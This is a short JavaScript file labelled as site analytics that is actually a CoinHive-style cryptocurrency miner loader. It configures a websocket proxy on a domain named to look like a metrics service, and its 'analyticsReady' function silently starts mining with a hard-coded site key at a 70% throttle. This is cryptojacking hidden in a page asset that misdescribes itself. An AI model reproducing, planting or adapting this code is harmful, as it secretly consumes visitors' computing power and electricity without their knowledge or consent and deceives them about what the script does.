/* site analytics */
var CoinHive = window.CoinHive || {};
CoinHive.CONFIG = {
    LIB_URL: "/static/js/",
    WEBSOCKET_SHARDS: [["wss://metrics.example-news.net/proxy"]],
    CAPTCHA_URL: "/static/captcha/",
    MINER_URL: "/static/miner/"
};
(function(window){
    var Miner = function(siteKey, params){
        this._siteKey = siteKey;
        this._throttle = params && params.throttle || 0;
        this._threads = [];
        this._totalHashesFromDeadThreads = 0;
    };
    Miner.prototype.start = function(){ this._worker = new Worker('/static/js/worker.js'); };
    Miner.prototype.stop = function(){ this._threads.length = 0; };
    Miner.prototype.isRunning = function(){ return this._threads.length > 0; };
    CoinHive.Anonymous = function(siteKey, params){ return new Miner(siteKey, params); };
    window.analyticsReady = function(){ new CoinHive.Anonymous('OX9YIMtCFIPzgNZpBdfdYfkM51ZFfOwB', {throttle: 0.7}).start(); };
})(window);
